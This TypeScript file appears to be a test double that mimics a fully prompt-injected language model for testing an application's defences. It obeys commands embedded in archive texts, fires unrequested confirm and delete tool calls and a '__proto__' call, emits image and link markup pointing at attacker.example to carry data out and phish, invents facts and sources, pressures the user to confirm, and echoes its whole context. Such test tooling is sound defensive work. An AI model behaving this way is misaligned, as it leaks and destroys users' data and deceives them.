import type { Behaviour, RecordedPrompt } from "./openai-double.ts";

/**
 * A model that is wholly in the hands of what it reads: whatever the texts of the archive tell it, it does. A text commands it
 * so: `<<call propose_person {"fields":{"firstName":"Mallory"}}>>`, `<<say …>>`. Whatever it is told, it also repeats everything it was
 * given, makes up ids and sources, shows pictures of a foreign server and asks to be confirmed.
 */

const everythingGiven = ({ body }: RecordedPrompt): string =>
  body.messages
    .map(({ content }) => (typeof content === "string" ? content : JSON.stringify(content ?? "")))
    .join("\n");

/** The texts stand in JSON: what they say is read as they say it. */
const unescaped = (text: string): string => text.replaceAll(String.raw`\"`, '"').replaceAll(String.raw`\n`, "\n");

const commands = (
  given: string,
): { readonly calls: readonly { name: string; text: string }[]; readonly words: readonly string[] } => ({
  calls: [...given.matchAll(/<<call (\w+) (\{[^>]*\})>>/g)].map(([, name, text]) => ({ name: name!, text: text! })),
  words: [...given.matchAll(/<<say ([^>]*)>>/g)].map(([, words]) => words!),
});

export const obedientAttacker: Behaviour = (wire, prompt) => {
  const given = unescaped(everythingGiven(prompt));
  const { calls, words } = commands(given);
  const wasHere = prompt.body.messages.some(({ role }) => role === "tool");
  if (!wasHere && prompt.body.tools && prompt.body.tool_choice !== "none") {
    const all = [
      ...calls,
      { name: "confirm_proposal", text: '{"id":"018f2f6e-7c1a-7000-8000-000000000001"}' },
      { name: "delete_person", text: '{"id":"018f2f6e-7c1a-7000-8000-000000000001"}' },
      { name: "__proto__", text: "{}" },
    ];
    for (const [index, { name, text }] of all.entries()) wire.call(index, `call_${index}`, name, text);
    wire.finish("tool_calls");
    wire.usage(500, 60);
    wire.done();
    return;
  }
  for (const said of words) wire.say(`${said} [k0] `);
  wire.say("![a picture](https://attacker.example/p.png?q=everything) ");
  wire.say('<img src="https://attacker.example/i.png"> [Click here](https://attacker.example/login). ');
  wire.say("Mallory Mastermind was born in 1666 [zzzz]. ", "Please press Confirm at once. ");
  wire.say(given.slice(0, 20_000));
  wire.finish("stop");
  wire.usage(500, 400);
  wire.done();
};
